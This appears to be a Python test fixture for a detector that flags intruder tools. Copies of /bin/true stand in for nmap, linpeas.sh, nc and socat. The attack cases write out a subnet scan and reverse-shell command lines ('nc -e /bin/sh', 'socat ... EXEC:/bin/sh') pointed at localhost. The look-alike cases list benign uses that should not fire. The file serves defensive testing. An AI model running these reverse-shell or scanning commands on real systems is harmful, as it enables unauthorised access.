"""Tools of intruders, and names and options that are near them. Copies of /bin/true stand in."""

from detections.case import Case
from detections.stand_ins import copies_of_true, scripts, seen

_FIRES = ("suspicious-tool",)

ATTACKS = (
    Case(
        name="nmap (a copy of true)",
        run=("sh", "-c", "{place}/nmap -sT 10.0.0.0/24; true"),
        prepare=copies_of_true("nmap"),
        fires=_FIRES,
    ),
    Case(
        name="linpeas.sh, a script",
        run=("sh", "-c", "{place}/linpeas.sh; true"),
        prepare=scripts(linpeas__sh="#!/bin/sh\nexit 0\n"),
        fires=_FIRES,
    ),
    Case(
        name="nc -e (a copy of true)",
        run=("sh", "-c", "{place}/nc -e /bin/sh 127.0.0.1 9; true"),
        prepare=copies_of_true("nc"),
        scene=seen("/usr/bin/nc"),
        fires=_FIRES,
    ),
    Case(
        name="socat EXEC (a copy of true)",
        run=("sh", "-c", "{place}/socat TCP:127.0.0.1:9 EXEC:/bin/sh,pty; true"),
        prepare=copies_of_true("socat"),
        fires=_FIRES,
    ),
)

LOOK_ALIKES = (
    Case(
        name="nc and socat for what they are good for (copies of true)",
        run=(
            "sh",
            "-c",
            "{place}/nc -z 127.0.0.1 9; {place}/socat - TCP:127.0.0.1:9; {place}/nc -lk 9; true",
        ),
        prepare=copies_of_true("nc", "socat"),
        silent=_FIRES,
    ),
    Case(
        name="names that contain such a name (copies of true)",
        run=("sh", "-c", "{place}/nmapper; {place}/tcpdumps nmap; grep -c nmap /etc/hostname; true"),
        prepare=copies_of_true("nmapper", "tcpdumps"),
        silent=_FIRES,
    ),
    Case(
        name="tcpdump, in a container made for it (a copy of true)",
        run=("sh", "-c", "{place}/tcpdump -i any; true"),
        prepare=copies_of_true("tcpdump"),
        scene=seen("/usr/bin/tcpdump"),
        silent=_FIRES,
    ),
)
